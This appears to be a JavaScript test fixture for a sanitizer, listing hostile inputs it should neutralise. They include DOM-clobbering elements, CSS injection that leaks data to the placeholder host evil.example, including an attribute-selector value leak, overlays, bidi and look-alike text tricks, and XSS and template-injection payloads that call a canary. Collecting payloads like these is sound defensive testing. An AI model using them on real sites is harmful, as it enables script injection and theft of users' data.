// What gets at the page by names, styles and look-alikes.
const URL = "https://evil.example/x";

/** Names that page or framework look up by themselves. */
export const clobbering = [
  ...["canary", "message", "body", "cookie", "getElementById", "__next", "__next_f", "self", "children"],
  ...["defaultView", "currentScript", "location"],
].flatMap((name) => [`<a id="${name}" href="x:y">x</a>`, `<form name=${name}><input name=${name}></form>`]);

export const headings = [
  "# canary",
  "# message",
  "## __proto__ {#message}",
  "# <a name=message>x</a>",
  '# x" id="message',
];

export const styles = [
  `<style>@import "${URL}.css";</style>`,
  `<style>input[value^=a]{background:url(${URL}?a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${URL});unicode-range:u+41}*{font-family:x}</style>`,
  "<style>body{display:none}</style>",
  "<style>*{animation:x}@keyframes x{from{background:url(https://evil.example/x)}}</style>",
  `<style>:root{--a:url(${URL})}</style>`,
  `<p style="background:url(${URL})">x</p>`,
  `<p style="background-image:image-set('${URL}' 1x)">x</p>`,
  `<p style="list-style:url(${URL});display:list-item">x</p>`,
  `<p style="cursor:url(${URL}),auto">x</p>`,
  `<p style="content:url(${URL})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<p style="width:expression(canary())">x</p>`,
  `<p style="-moz-binding:url(${URL}#x)">x</p>`,
  `<p style="behavior:url(${URL})">x</p>`,
  `<p class="fixed inset-0 bg-accent">over everything</p>`,
  `<font color="red" face="x" style='background:url(${URL})'>x</font>`,
  `{style="background:url(${URL})"}\n# x`,
];

/** Text that looks other than it is; it must stay in its place. */
export const text = [
  "\u202e)(yranac:tpircsavaj\u202c",
  "\u2066\u2067\u2068 isolates without an end",
  "[\u202etxet](https://evil.example)",
  "\u200f<script>canary()</script>\u200e",
  "Z\u0351\u036b\u0343\u036a\u0302".repeat(20),
  "\ufeff<script>canary()</script>",
  "\ud800 half a character <img src=x onerror=canary()>",
  "\u0000<img src=x onerror=canary()>",
  "\u001b[31m<img src=x onerror=canary()>",
  "<\uff53cript>canary()</script>",
  "a\u2028<script>canary()</script>\u2029b",
  "{{constructor.constructor('canary()')()}}",
  "$\u007bcanary()} #{canary()} <%= canary() %>",
  "{canary()} <Canary onClick={canary} />",
  'export const x = canary(); import "https://evil.example/x.js"',
  "---\nlayout: <script>canary()</script>\n---",
  ":::note{onclick=canary()}\nx\n:::",
  "@[youtube](https://evil.example/x)",
  '{"type":"img","props":{"src":"https://evil.example/x","onerror":"canary()"}}',
  '{"$$typeof":"react.element","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary()>"}}',
  "data: [DONE]\n\ndata: {}\n\n<script>canary()</script>",
  "\r<script>canary()</script>\r\n\r\n<img src=x onerror=canary()>",
];
